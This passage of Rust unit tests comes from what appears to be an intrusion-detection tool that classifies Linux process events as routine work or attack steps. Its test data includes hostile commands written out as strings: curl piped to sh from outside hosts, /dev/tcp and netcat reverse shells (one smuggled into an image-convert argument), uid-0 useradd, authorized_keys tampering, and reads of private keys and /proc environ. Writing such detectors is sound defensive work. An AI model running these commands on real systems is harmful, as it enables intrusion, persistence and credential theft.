            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","user.uid":998,"user.loginuid":998}"#
        ));
        assert!(!i(
            r#"{"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd","proc.stdin_type":"ipv4"}"#
        ));
        // An admin who changed to a service user keeps their login uid: still a person.
        assert!(i(
            r#"{"proc.name":"psql","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","user.name":"postgres","user.uid":999,"user.loginuid":1000}"#
        ));
    }

    #[test]
    fn lineage_shapes() {
        let sh = |j: &str| shape(&ev(j));
        assert_eq!(
            sh(
                r#"{"proc.name":"rm","proc.pname":"bash","proc.aname[2]":"sshd","proc.aname[3]":"systemd"}"#
            ),
            "shell<login<init"
        );
        assert_eq!(
            sh(
                r#"{"proc.name":"rm","proc.aname[1]":"sh","proc.aname[2]":"httpd","proc.aname[3]":"runc"}"#
            ),
            "shell<service<runtime"
        );
        assert_eq!(
            sh(r#"{"proc.name":"rm","proc.aname[1]":"sh","proc.aname[2]":"runc"}"#),
            "shell<runtime"
        );
        assert_eq!(
            sh(
                r#"{"proc.name":"rm","proc.aname[1]":"sh","proc.aname[2]":"bash","proc.aname[3]":"cron"}"#
            ),
            "shell<scheduler"
        );
        assert_eq!(sh(r#"{"proc.name":"rm"}"#), "?");
        assert_eq!(role("python3.11"), Role::Interpreter);
        assert_eq!(role("containerd-shim-runc-v2"), Role::Runtime);
    }

    #[test]
    fn service_accounts() {
        assert_eq!(
            system_account(&ev(r#"{"user.name":"www-data","user.uid":33}"#)).as_deref(),
            Some("www-data")
        );
        assert_eq!(
            system_account(&ev(r#"{"user.name":"svc","user.uid":999}"#)).as_deref(),
            Some("svc")
        );
        assert_eq!(
            system_account(&ev(r#"{"user.name":"root","user.uid":0}"#)),
            None
        );
        assert_eq!(
            system_account(&ev(r#"{"user.name":"alice","user.uid":1000}"#)),
            None
        );
    }

    #[test]
    fn plain_commands_of_a_services_shell() {
        let p = |j: serde_json::Value| plain_service_command(&ev(&j.to_string()));
        // The shell itself, right below the service, running one system command.
        assert_eq!(
            p(
                serde_json::json!({"evt.type":"execve","proc.name":"sh","proc.pname":"php-fpm","proc.cmdline":"sh -c /usr/sbin/sendmail -t -i"})
            )
            .as_deref(),
            Some("/usr/sbin/sendmail -t -i")
        );
        assert!(p(serde_json::json!({"evt.type":"execve","proc.name":"sh","proc.pname":"apache2","proc.cmdline":"sh -c convert /tmp/phpQk8s2L -resize 320x320 /var/www/g/t/img_1.jpg 2>&1"})).is_some());
        assert!(p(serde_json::json!({"evt.type":"execve","proc.name":"sh","proc.pname":"apache2","proc.cmdline":"sh -c convert a.png -resize 10x10 b.png > /dev/null"})).is_some());
        // The program the shell ran, even the system's own, is flagged for what it is.
        assert!(p(serde_json::json!({"evt.type":"execve","proc.name":"shred","proc.exepath":"/usr/bin/shred","proc.pname":"sh","proc.aname[2]":"apache2","proc.pcmdline":"sh -c shred -u /home/ops/.ssh/id_rsa"})).is_none());
        // Not plain: downloads, pipes into a shell, /dev/tcp, nested shells, network tools,
        // several commands, substitutions, variables, files written, programs from elsewhere.
        for cmd in [
            "sh -c curl -s http://203.0.113.31/s.sh | sh",
            "sh -c convert 'https://x\";bash -c \"bash -i >& /dev/tcp/198.51.100.60/443 0>&1' out.png",
            "sh -c bash -i",
            "sh -c nc -e /bin/sh 198.51.100.1 4444",
            "sh -c sendmail x; cat /etc/passwd",
            "sh -c cat /etc/passwd",
            "sh -c cp k /root/.ssh/authorized_keys",
            "sh -c convert $(id) x",
            "sh -c echo x > /var/www/html/s.php",
            "sh -c /tmp/sendmail -t -i",
            "sh -c /var/www/uploads/x",
            "sh -c python3 -c 'import pty'",
            "sh -c env bash",
            "sh -c LD_PRELOAD=/tmp/x.so convert a b",
            "sh -c wget http://203.0.113.9/x",
            "sh",
            "sh -i",
        ] {
            let j = serde_json::json!({"evt.type":"execve","proc.name":"sh","proc.pname":"httpd","proc.cmdline":cmd});
            assert_eq!(p(j), None, "{cmd}");
        }
        // What the command does after its start (here a write it makes) is not plain.
        assert!(p(serde_json::json!({"evt.type":"openat","proc.name":"sh","proc.pname":"apache2","proc.cmdline":"sh -c convert a.png -resize 10x10 b.png","fd.name":"b.png"})).is_none());
        // A shell deeper than right below the service, or no service at all.
        assert!(p(serde_json::json!({"evt.type":"execve","proc.name":"cat","proc.exepath":"/usr/bin/cat","proc.pname":"sh","proc.aname[2]":"sh","proc.aname[3]":"httpd","proc.pcmdline":"sh -c cat x"})).is_none());
        assert!(p(serde_json::json!({"evt.type":"execve","proc.name":"sh","proc.pname":"bash","proc.cmdline":"sh -c convert a b"})).is_none());
    }

    #[test]
    fn scheduled_jobs_are_entered_by_nobody_and_run_no_service() {
        for j in [
            r#"{"proc.name":"tar","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron"}"#,
            r#"{"proc.name":"nc","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"telegraf","proc.aname[3]":"systemd"}"#,
            r#"{"proc.name":"make","proc.tty":0,"proc.pname":"gitlab-runner"}"#,
        ] {
            assert!(scheduled_job(&ev(j)), "{j}");
        }
        for j in [
            // a service's child (a web shell), a person, a runtime exec, nothing known
            r#"{"proc.name":"cat","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"php-fpm","proc.aname[3]":"systemd"}"#,
            r#"{"proc.name":"tar","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"cron"}"#,
            r#"{"proc.name":"tar","proc.tty":0,"proc.pname":"bash","proc.aname[2]":"sshd","proc.aname[3]":"systemd"}"#,
            r#"{"proc.name":"tar","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"runc"}"#,
            r#"{"proc.name":"tar","proc.tty":0,"proc.pname":"bash"}"#,
        ] {
            assert!(!scheduled_job(&ev(j)), "{j}");
        }
    }

    #[test]
    fn hosts_inside_and_outside_the_site() {
        for h in ["10.0.4.7", "127.0.0.1", "localhost", "[::1]", "192.168.3.2"] {
            assert!(!host_is_outside(h), "{h}");
        }
        for h in [
            "203.0.113.9",
            "backup.example.com",
            "evil.example",
            "[2001:db8::1]",
        ] {
            assert!(host_is_outside(h), "{h}");
        }
    }

    #[test]
    fn credential_reads_by_their_own_programs_are_not_session_evidence() {
        let none = |_: &str| false;
        let read = |who: &str, path: &str| {
            activity(
                &ev(&format!(
                    r#"{{"evt.type":"openat","evt.is_open_read":true,"fd.num":3,"proc.name":"{who}","fd.name":"{path}"}}"#
                )),
                &none,
            )
        };
        assert_eq!(read("sudo", "/etc/sudoers"), None);
        assert_eq!(read("pwck", "/etc/shadow"), None);
        assert_eq!(read("sshd", "/etc/ssh/ssh_host_ed25519_key"), None);
        // The same files read by anything else, or another file by those programs, count.
        assert!(matches!(
            read("cat", "/etc/sudoers"),
            Some(Activity::CredentialRead(..))
        ));
        assert!(matches!(
            read("passwd", "/etc/sudoers"),
            Some(Activity::CredentialRead(..))
        ));
        assert!(matches!(
            read("sudo", "/root/.ssh/id_rsa"),
            Some(Activity::CredentialRead(..))
        ));
    }

    #[test]
    fn workload_init_is_the_entrypoints_own_tree_never_an_exec_or_the_host() {
        let w = |j: &str| workload_init(&ev(j));
        let got = w(r#"{"container.id":"c1","proc.tty":0,"proc.vpid":8,"proc.name":"rsync","proc.pname":"sh","proc.aname[2]":"containerd-shim","proc.apid[1]":41}"#).unwrap();
        assert_eq!((got.level, got.name.as_str(), got.pid), (1, "sh", Some(41)));
        let got = w(r#"{"container.id":"c1","proc.tty":0,"proc.vpid":9,"proc.name":"rm","proc.pname":"sh","proc.aname[2]":"tini","proc.aname[3]":"conmon","proc.apid[2]":40}"#).unwrap();
        assert_eq!(
            (got.level, got.name.as_str(), got.pid),
            (2, "tini", Some(40))
        );
        let got = w(r#"{"container.id":"c1","proc.tty":0,"proc.vpid":1,"proc.pid":77,"proc.name":"controller","proc.pname":"containerd-shim"}"#).unwrap();
        assert_eq!((got.level, got.pid), (0, Some(77)));
        for j in [
            // the host, a terminal, a runtime exec, an app between, a process under the
            // shim that is not pid 1, an interpreter or a service as pid 1, privileged,
            // a host-reaching capability
            r#"{"container.id":"host","proc.tty":0,"proc.name":"rm","proc.pname":"sh","proc.aname[2]":"containerd-shim"}"#,
            r#"{"container.id":"c1","proc.tty":34816,"proc.name":"rm","proc.pname":"sh","proc.aname[2]":"containerd-shim"}"#,
            r#"{"container.id":"c1","proc.tty":0,"proc.name":"rm","proc.pname":"sh","proc.aname[2]":"runc","proc.aname[3]":"containerd-shim"}"#,
            r#"{"container.id":"c1","proc.tty":0,"proc.name":"rm","proc.pname":"sh","proc.aname[2]":"node","proc.aname[3]":"containerd-shim"}"#,
            r#"{"container.id":"c1","proc.tty":0,"proc.vpid":12,"proc.name":"sh","proc.pname":"containerd-shim"}"#,
            r#"{"container.id":"c1","proc.tty":0,"proc.vpid":1,"proc.name":"python3","proc.pname":"containerd-shim"}"#,
            r#"{"container.id":"c1","proc.tty":0,"proc.vpid":1,"proc.name":"nginx","proc.pname":"containerd-shim"}"#,
            r#"{"container.id":"c1","container.privileged":true,"proc.tty":0,"proc.name":"mount","proc.pname":"sh","proc.aname[2]":"containerd-shim"}"#,
            r#"{"container.id":"c1","thread.cap_effective":"CAP_CHOWN CAP_SYS_PTRACE","proc.tty":0,"proc.name":"rm","proc.pname":"sh","proc.aname[2]":"containerd-shim"}"#,
        ] {
            assert_eq!(w(j), None, "{j}");
        }
    }

    #[test]
    fn schedule_writes_launchers_and_dropped_job_commands() {
        for j in [
            r#"{"evt.type":"openat","fd.name":"/etc/cron.d/x","evt.is_open_write":true}"#,
            r#"{"evt.type":"openat","fd.name":"/var/spool/cron/crontabs/root","evt.arg.flags":"O_WRONLY|O_CREAT"}"#,
            r#"{"evt.type":"renameat2","evt.arg.newpath":"/etc/cron.daily/logs"}"#,
            r#"{"evt.type":"execve","evt.rawres":0,"proc.name":"crontab","proc.cmdline":"crontab /tmp/c"}"#,
        ] {
            assert!(schedule_write(&ev(j)).is_some(), "{j}");
        }
        for j in [
            r#"{"evt.type":"openat","fd.name":"/etc/cron.d/x","evt.is_open_read":true}"#,
            r#"{"evt.type":"openat","fd.name":"/etc/cronos.conf.bak/x","evt.is_open_write":true}"#,
            r#"{"evt.type":"execve","evt.rawres":0,"proc.name":"crontab","proc.cmdline":"crontab -l"}"#,
            r#"{"evt.type":"renameat2","evt.arg.newpath":"/var/log/app.log.1"}"#,
        ] {
            assert!(schedule_write(&ev(j)).is_none(), "{j}");
        }
        let s = |j: &str| scheduler_launcher(&ev(j));
        assert_eq!(
            s(r#"{"proc.name":"tar","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron","proc.aname[3]":"systemd"}"#).as_deref(),
            Some("cron")
        );
        for j in [
            r#"{"proc.name":"tar","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"cron"}"#,
            r#"{"proc.name":"tar","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"sshd","proc.aname[3]":"cron"}"#,
            r#"{"proc.name":"tar","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"php-fpm","proc.aname[3]":"cron"}"#,
            r#"{"proc.name":"tar","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"systemd"}"#,
        ] {
            assert_eq!(s(j), None, "{j}");
        }
        let d = |j: &str| job_runs_dropped(&ev(j));
        for j in [
            r#"{"proc.name":"rm","proc.pname":"sh","proc.pcmdline":"sh -c /tmp/.x/run"}"#,
            r#"{"proc.name":"sh","proc.cmdline":"sh /dev/shm/p.sh"}"#,
            r#"{"proc.name":"rm","proc.pname":"sh","proc.pcmdline":"sh -c cd /var && bash /var/tmp/u.sh"}"#,
            r#"{"proc.name":"rm","proc.pname":"sh","proc.pcmdline":"sh -c X=1 /tmp/y"}"#,
        ] {
            assert!(d(j).is_some(), "{j}");
        }
        for j in [
            r#"{"proc.name":"tar","proc.pname":"sh","proc.pcmdline":"sh -c tar czf /tmp/etc.tgz /etc"}"#,
            r#"{"proc.name":"lynis","proc.pname":"sh","proc.pcmdline":"sh -c /usr/sbin/lynis audit system > /var/log/l.log"}"#,
            r#"{"proc.name":"tar","proc.pname":"cron","proc.pcmdline":"/usr/sbin/cron -f /tmp/x"}"#,
        ] {
            assert_eq!(d(j), None, "{j}");
        }
    }

    /// Session 9 (lead), from the blind holdout7: steps no routine work takes, by field kind
    /// and lineage shape.
    #[test]
    fn reverse_shell_connections_staged_script_arguments_and_web_scripts_are_steps() {
        let step = |json: &str| attack_step(&ev(json)).map(|(s, _)| s);
        // A shell's own connection (`bash -i >& /dev/tcp/…`): to any host but loopback.
        let connect = |name: &str, sip: &str| {
            step(&format!(
                r#"{{"evt.type":"connect","evt.rawres":0,"proc.name":"{name}","fd.sip":"{sip}","fd.name":"10.0.0.2:40000->{sip}:8443"}}"#
            ))
        };
        assert_eq!(connect("bash", "80.94.92.31"), Some(Step::ShellConnect));
        // Inside the site the same redirection is a readiness probe.
        assert_eq!(connect("sh", "10.1.2.3"), None);
        assert_eq!(connect("bash", "127.0.0.1"), None);
        assert_eq!(connect("curl", "80.94.92.31"), None);
        // A script in a temporary or hidden path handed to an interpreter's own script.
        let exec = |name: &str, cmd: &str| {
            step(&format!(
                r#"{{"evt.type":"execve","evt.rawres":0,"proc.name":"{name}","proc.exepath":"/usr/bin/{name}","proc.cmdline":{}}}"#,
                serde_json::Value::from(cmd)
            ))
        };
        assert_eq!(
            exec(
                "php",
                "php /usr/local/bin/wp eval-file /tmp/u.php --path=/var/www/shop"
            ),
            Some(Step::ScriptArgument)
        );
        assert_eq!(
            exec("python3", "python3 manage.py runscript /var/tmp/x.py"),
            Some(Step::ScriptArgument)
        );
        // Outside a temporary directory (an application's hidden cache) it is not.
        assert_eq!(
            exec(
                "python3",
                "python3 manage.py runscript /srv/app/.cache/x.py"
            ),
            None
        );
        assert_eq!(
            exec("php", "php /usr/local/bin/wp plugin update --all"),
            None
        );
        // A data file in /tmp is not a script.
        assert_eq!(
            exec("python3", "python3 /opt/tool/report.py /tmp/out.csv"),
            None
        );
        // A server-side script written below a web server by a program that is neither
        // the server nor an interpreter.
        let write = |name: &str, lineage: &str, path: &str| {
            step(&format!(
                r#"{{"evt.type":"openat","evt.rawres":3,"evt.arg.flags":"O_WRONLY|O_CREAT","proc.name":"{name}",{lineage}"fd.name":"{path}"}}"#
            ))
        };
        let under_apache = r#""proc.pname":"sh","proc.aname[2]":"apache2","#;
        assert_eq!(
            write("sendmail", under_apache, "/var/www/html/uploads/c.php"),
            Some(Step::WebScript)
        );
        assert_eq!(
            write("cp", under_apache, "/srv/site/shell.JSP"),
            Some(Step::WebScript)
        );
        // The server's own interpreter writing its code (a CMS updating a plugin), a
        // script written outside a web server's tree, or another kind of file: no step.
        assert_eq!(
            write("php", under_apache, "/var/www/html/wp-content/x.php"),
            None
        );
        assert_eq!(
            write(
                "php-fpm8.2",
                r#""proc.pname":"php-fpm8.2","#,
                "/var/www/x.php"
            ),
            None
        );
        assert_eq!(
            write("cp", r#""proc.pname":"bash","#, "/var/www/html/x.php"),
            None
        );
        assert_eq!(
            write("sendmail", under_apache, "/var/spool/mqueue/qf123"),
            None
        );
    }

    /// Session 10: a second root account, a hidden server-side script or one written by
    /// code typed on an interpreter's command line are steps whatever the lineage; a
    /// system record emptied by a person is told from a housekeeping or application log.
    /// A program its shell's command does not name is an injected command (issue 11,
    /// session 11); every program the command names, through a symbolic link, an
    /// interpreter's script or a cut `comm`, is not; nor is anything a login shell or a
    /// command that computes what it runs starts.
    #[test]
    fn programs_a_shell_command_does_not_name_are_injected() {
        let child = |name: &str, exe: &str, cmd: &str, pname: &str, pcmd: &str| {
            attack_step(&ev(&format!(
                r#"{{"evt.type":"execve","evt.rawres":0,"proc.name":"{name}","proc.exepath":"{exe}","proc.cmdline":{},"proc.pname":"{pname}","proc.pcmdline":{}}}"#,
                serde_json::Value::from(cmd),
                serde_json::Value::from(pcmd)
            )))
            .map(|(s, _)| s)
        };
        let injected = |name: &str, exe: &str, cmd: &str, pname: &str, pcmd: &str| {
            child(name, exe, cmd, pname, pcmd) == Some(Step::InjectedCommand)
        };
        let convert =
            "sh -c convert /tmp/RackMultipart-x9k.jpg -resize 800x800 /app/public/uploads/p_1.jpg";
        assert!(injected(
            "curl",
            "/usr/bin/curl",
            "curl -s http://203.0.113.17/i.sh",
            "sh",
            convert
        ));
        assert_eq!(
            child(
                "id",
                "/usr/bin/id",
                "id",
                "bash",
                "bash -ec 'gzip -9 /var/log/app.log; sync'"
            ),
            Some(Step::InjectedCommand)
        );
        // Named: directly, by a link's name, by an interpreter's script, by a cut comm.
        assert!(!injected(
            "convert",
            "/usr/bin/convert-im6.q16",
            "convert a.jpg b.jpg",
            "sh",
            convert
        ));
        assert!(!injected(
            "node",
            "/usr/bin/node",
            "node /usr/bin/npm run build",
            "sh",
            "sh -c cd /src && npm run build"
        ));
        assert!(!injected(
            "gzip",
            "/usr/bin/gzip",
            "gzip -9 x",
            "sh",
            "sh -c LANG=C nice gzip -9 x || true"
        ));
        assert!(!injected(
            "kube-controller",
            "",
            "kube-controller --v=2",
            "sh",
            "sh -c /usr/local/bin/kube-controller-manager --v=2"
        ));
        // No evidence: a login or interactive shell, a computed command, no `-c`, a shell
        // that is not the parent.
        for pcmd in [
            "bash -lc convert a.jpg b.jpg",
            "sh -c $CMD a.jpg",
            "sh -c eval \"$1\"",
            "sh -c . /etc/profile.d/app.sh; run",
            "sh /opt/app/convert.sh",
            "sh --norc -c convert",
        ] {
            assert_eq!(
                child(
                    "curl",
                    "/usr/bin/curl",
                    "curl -s http://203.0.113.17/i.sh",
                    "sh",
                    pcmd
                ),
                None,
                "{pcmd}"
            );
        }
        assert_ne!(
            child(
                "curl",
                "/usr/bin/curl",
                "curl -s http://203.0.113.17/i.sh",
                "ruby",
                "ruby -e system('convert')"
            ),
            Some(Step::InjectedCommand)
        );
    }

    /// A script written below a service through a path that climbs out of its directory is
    /// a web script; the same file without `..`, or a climbing path to data, is not; and
    /// files in directories of mounted secrets are credential material; root's own login
    /// keys are told apart from another account's (issue 11, session 11).
    #[test]
    fn climbing_script_writes_mounted_secrets_and_roots_keys() {
        let write = |arg: &str, path: &str, pname: &str| {
            attack_step(&ev(&format!(
                r#"{{"evt.type":"openat","evt.rawres":3,"evt.arg.flags":"O_WRONLY|O_CREAT|O_TRUNC","proc.name":"convert","proc.cmdline":"convert a b","proc.pname":"sh","proc.aname[2]":"{pname}","evt.arg.name":"{arg}","fd.name":"{path}"}}"#
            )))
            .map(|(s, _)| s)
        };
        let up = "/app/public/uploads/../../config/initializers/z.rb";
        assert_eq!(
            write(up, "/app/config/initializers/z.rb", "nginx"),
            Some(Step::WebScript)
        );
        assert_eq!(write(up, up, "nginx"), Some(Step::WebScript));
        assert_eq!(
            write(
                "/app/public/uploads/p_1.jpg",
                "/app/public/uploads/p_1.jpg",
                "nginx"
            ),
            None
        );
        assert_eq!(
            write(
                "/app/public/uploads/../thumbs/p_1.jpg",
                "/app/public/thumbs/p_1.jpg",
                "nginx"
            ),
            None
        );
        assert_eq!(
            write(
                "/app/config/initializers/z.rb",
                "/app/config/initializers/z.rb",
                "nginx"
            ),
            None
        );
        // Below no service: a build writing `../lib/x.rb` is its own business.
        assert_eq!(write(up, "/app/config/initializers/z.rb", "make"), None);
        assert!(crate::triage::cannot_be_activity(&ev(
            r#"{"evt.type":"openat","fd.name":"/app/public/uploads/p_1.jpg"}"#
        )));
        assert!(!crate::triage::cannot_be_activity(&ev(&format!(
            r#"{{"evt.type":"openat","evt.arg.name":"{up}"}}"#
        ))));

        for p in [
            "/var/openfaas/secrets/payment-api-key",
            "/etc/secrets/db-password",
            "/vault/secrets/config",
            "/mnt/secrets-store/api-token",
        ] {
            assert!(is_credential_material(p), "{p}");
        }
        // Keys, key stores and password maps by the shape of their names.
        for p in [
            "/etc/postfix/sasl_passwd",
            "/var/www/.htpasswd",
            "/tmp/docker-mailserver/opendkim/keys/example.org/mail.private",
            "/etc/nginx/tls/server.key",
            "/etc/letsencrypt/live/example.org/privkey.pem",
            "/opt/app/conf/keystore.jks",
            "/srv/ci/deploy_ed25519",
            "/home/ops/vault.kdbx",
            "/etc/ssl/site-private.pem",
        ] {
            assert!(is_credential_material(p), "{p}");
        }
        for p in [
            "/app/secrets-guide.md",
            "/srv/docs/secret.txt",
            "/home/app/function/handler.py",
            "/etc/passwd",
            "/etc/passwd-",
            "/usr/share/keyrings/repo-public.key",
            "/etc/ssh/ssh_host_ed25519_key.pub",
            "/srv/app/keys.txt",
        ] {
            assert!(!is_credential_material(p), "{p}");
        }
        assert!(root_login_key("/root/.ssh/authorized_keys"));
        assert!(root_login_key("/root/.ssh/authorized_keys2"));
        assert!(!root_login_key("/home/deploy/.ssh/authorized_keys"));
        assert!(!root_login_key("/root/.ssh/known_hosts"));
    }

    #[test]
    fn root_accounts_hand_typed_web_scripts_and_emptied_system_records() {
        let step = |json: &str| attack_step(&ev(json)).map(|(s, _)| s);
        let exec = |name: &str, cmd: &str| {
            step(&format!(
                r#"{{"evt.type":"execve","evt.rawres":0,"proc.name":"{name}","proc.cmdline":{}}}"#,
                serde_json::Value::from(cmd)
            ))
        };
        for cmd in [
            "useradd -o -u 0 -g 0 -M -d /var/lib/.x -s /bin/bash sysupd",
            "useradd -u 0 -o toor",
            "usermod --uid=0 backup",
            "usermod -u 0000 -o svc",
            "useradd --non-unique --uid 1000 shadowuser",
            "useradd -ou 0 x",
        ] {
            let name = cmd.split_whitespace().next().unwrap();
            assert_eq!(exec(name, cmd), Some(Step::RootAccount), "{cmd}");
        }
        for cmd in [
            "useradd --system --home /nonexistent --no-create-home _tcpdump",
            "useradd -u 1001 -m alice",
            "usermod -aG sudo alice",
        ] {
            let name = cmd.split_whitespace().next().unwrap();
            assert_eq!(exec(name, cmd), Some(Step::AccountChange), "{cmd}");
        }
        // Server-side scripts: hidden, or written by code on an interpreter's command
        // line, whatever the lineage; a package manager installing one is not a step.
        let write = |name: &str, cmd: &str, path: &str| {
            step(&format!(
                r#"{{"evt.type":"openat","evt.rawres":3,"evt.arg.flags":"O_WRONLY|O_CREAT","proc.name":"{name}","proc.cmdline":{},"proc.pname":"bash","fd.name":"{path}"}}"#,
                serde_json::Value::from(cmd)
            ))
        };
        assert_eq!(
            write(
                "php",
                "php -r file_put_contents('/srv/lms/local/x.php', $argv[1]);",
                "/srv/lms/local/x.php"
            ),
            Some(Step::WebScript)
        );
        assert_eq!(
            write(
                "cp",
                "cp /root/x /var/www/html/.cache.php",
                "/var/www/html/.cache.php"
            ),
            Some(Step::WebScript)
        );
        assert_eq!(
            write(
                "php",
                "php /srv/lms/admin/cli/upgrade.php",
                "/srv/lms/local/x.php"
            ),
            None
        );
        assert_eq!(
            write(
                "dpkg",
                "dpkg -i roundcube.deb",
                "/usr/share/roundcube/.htaccess.php"
            ),
            None
        );
        // Emptied records: the system's own logs and security records, not housekeeping
        // data nor an application's log in its directory.
        let empties = |ty: &str, path: &str, flags: &str| {
            empties_record_log(&ev(&format!(
                r#"{{"evt.type":"{ty}","evt.rawres":0,"evt.arg.flags":"{flags}","fs.path.name":"{path}","fd.name":"{path}"}}"#
            )))
            .is_some()
        };
        assert!(empties("openat", "/var/log/cron", "O_WRONLY|O_TRUNC"));
        assert!(empties("unlinkat", "/var/log/boot.log", ""));
        assert!(empties("truncate", "/var/log/messages", ""));
        assert!(empties("unlinkat", "/var/log/audit/audit.log", ""));
        assert!(!empties("unlinkat", "/var/log/dpkg.log", ""));
        assert!(!empties("unlinkat", "/var/log/syslog.2.gz", ""));
        assert!(!empties("unlinkat", "/var/log/app/debug.log", ""));
        assert!(!empties(
            "openat",
            "/var/log/haproxy.log",
            "O_WRONLY|O_TRUNC"
        ));
        assert!(!empties("openat", "/var/log/cron", "O_WRONLY|O_APPEND"));
        // A failed removal empties nothing.
        assert!(empties_record_log(&ev(
            r#"{"evt.type":"unlinkat","evt.rawres":-13,"fs.path.name":"/var/log/cron"}"#
        ))
        .is_none());
        // A downloader asking the instance metadata or an API for credentials.
        assert!(cmdline_fetches_secrets(
            "curl -s -X PUT http://169.254.169.254/latest/api/token -H X: 1"
        ));
        assert!(cmdline_fetches_secrets(
            "/usr/bin/wget -qO- https://api.internal/v1/secrets/db"
        ));
        assert!(!cmdline_fetches_secrets(
            "curl -s http://10.0.0.5:8080/health"
        ));
        assert!(!cmdline_fetches_secrets(
            "python3 fetch.py http://169.254.169.254/"
        ));
    }

    #[test]
    fn attack_steps_by_kind_of_act_and_target() {
        let step = |json: &str| attack_step(&ev(json)).map(|(s, _)| s);
        let exec = |name: &str, cmd: &str| {
            step(&format!(
                r#"{{"evt.type":"execve","evt.rawres":0,"proc.name":"{name}","proc.cmdline":{}}}"#,
                serde_json::Value::from(cmd)
            ))
        };
        // Privilege: setuid or setgid bits, by syscall mode or by command line.
        assert_eq!(
            step(
                r#"{"evt.type":"fchmodat","evt.rawres":0,"evt.arg.mode":"S_IRUSR|S_IXUSR|S_ISUID","fs.path.name":"/tmp/x"}"#
            ),
            Some(Step::SetId)
        );
        assert_eq!(
            step(
                r#"{"evt.type":"chmod","evt.rawres":0,"evt.arg.mode":"02755","fs.path.name":"/tmp/x"}"#
            ),
            Some(Step::SetId)
        );
        assert_eq!(
            step(
                r#"{"evt.type":"fchmodat","evt.rawres":0,"evt.arg.mode":"S_IRUSR|S_IXUSR","fs.path.name":"/tmp/x"}"#
            ),
            None
        );
        assert_eq!(
            step(
                r#"{"evt.type":"fchmodat","evt.rawres":-1,"evt.arg.mode":"S_ISUID","fs.path.name":"/tmp/x"}"#
            ),
            None,
            "a failed call changed nothing"
        );
        assert_eq!(exec("chmod", "chmod 4755 /tmp/.x"), Some(Step::SetId));
        assert_eq!(exec("chmod", "chmod u+x,g+s /srv/d"), Some(Step::SetId));
        assert_eq!(exec("chmod", "chmod 0755 /usr/local/bin/tool"), None);
        assert_eq!(exec("chmod", "chmod u+x deploy.sh"), None);
        // A shared directory's mode (setgid, group-writable, not world-writable) is no
        // setid step; a setuid bit, a world-writable setgid mode or a setgid program's mode
        // (no group write) is.
        let chmod_call = |mode: &str| {
            step(&format!(
                r#"{{"evt.type":"fchmodat","evt.rawres":0,"evt.arg.mode":"{mode}","fs.path.name":"/srv/share"}}"#
            ))
        };
        for shared in [
            "S_IXOTH|S_IROTH|S_IXGRP|S_IWGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISGID",
            "S_IXGRP|S_IWGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISGID",
            "02775",
        ] {
            assert_eq!(chmod_call(shared), None, "{shared}");
        }
        for id in [
            "S_IXOTH|S_IWOTH|S_IROTH|S_IXGRP|S_IWGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISGID",
            "S_IXGRP|S_IWGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISGID|S_ISUID",
            "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISGID",
            "S_ISGID|S_IFDIR",
        ] {
            assert_eq!(chmod_call(id), Some(Step::SetId), "{id}");
        }
        assert_eq!(exec("chmod", "chmod 2775 /srv/finds/2026-season"), None);
        assert_eq!(exec("chmod", "chmod 2770 /srv/berths/contracts"), None);
        for cmd in [
            "chmod 6775 /srv/x",
            "chmod 2777 /var/www/uploads",
            "chmod 2755 /usr/sbin/postdrop",
            "chmod g+s /srv/d",
        ] {
            assert_eq!(exec("chmod", cmd), Some(Step::SetId), "{cmd}");
        }
        // Accounts.
        assert_eq!(
            exec("useradd", "useradd -o -u 0 x"),
            Some(Step::RootAccount)
        );
        assert_eq!(exec("passwd", "passwd -S root"), None);
        assert_eq!(exec("pwck", "pwck -r"), None);
        // Credential material named by a reader, not by a destroyer.
        assert_eq!(
            exec(
                "cat",
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token"
            ),
            Some(Step::CredentialMaterial)
        );
        assert_eq!(
            exec("base64", "base64 /root/.ssh/id_ed25519"),
            Some(Step::CredentialMaterial)
        );
        assert_eq!(exec("shred", "shred -u /etc/ssl/private/old.key"), None);
        // Another process's environment holds the secrets it was given; a process's own
        // does not.
        assert_eq!(
            exec("cat", "cat /proc/1/environ"),
            Some(Step::CredentialMaterial)
        );
        assert_eq!(
            exec("strings", "strings /proc/812/task/815/environ"),
            Some(Step::CredentialMaterial)
        );
        assert_eq!(exec("cat", "cat /proc/self/environ"), None);
        assert_eq!(exec("cat", "cat /proc/1/status"), None);
        // An interactive shell started from inside another program is an escape; from a
        // shell, a login, a runtime, sudo, or with a command to run, it is not.
        let shell = |cmd: &str, parent: &str| {
            step(&format!(
                r#"{{"evt.type":"execve","evt.rawres":0,"proc.name":"bash","proc.exepath":"/usr/bin/bash","proc.cmdline":{},"proc.pname":"{parent}"}}"#,
                serde_json::Value::from(cmd)
            ))
        };
        assert_eq!(shell("/bin/bash", "vim"), Some(Step::ShellEscape));
        assert_eq!(shell("bash -i", "find"), Some(Step::ShellEscape));
        assert_eq!(shell("bash", "python3"), Some(Step::ShellEscape));
        for parent in [
            "bash", "sshd", "tmux", "runc", "sudo", "su", "systemd", "cron",
        ] {
            assert_eq!(shell("/bin/bash", parent), None, "{parent}");
        }
        assert_eq!(shell("-bash", "sshd"), None);
        assert_eq!(shell("bash -c make", "vim"), None);
        assert_eq!(shell("bash ./build.sh", "make"), None);
        assert_eq!(shell("bash", ""), None);
        // Requests for secrets, TLS verification off toward another host.
        assert_eq!(
            exec(
                "curl",
                "curl -s https://kubernetes.default.svc/api/v1/secrets"
            ),
            Some(Step::SecretsRequest)
        );
        assert_eq!(
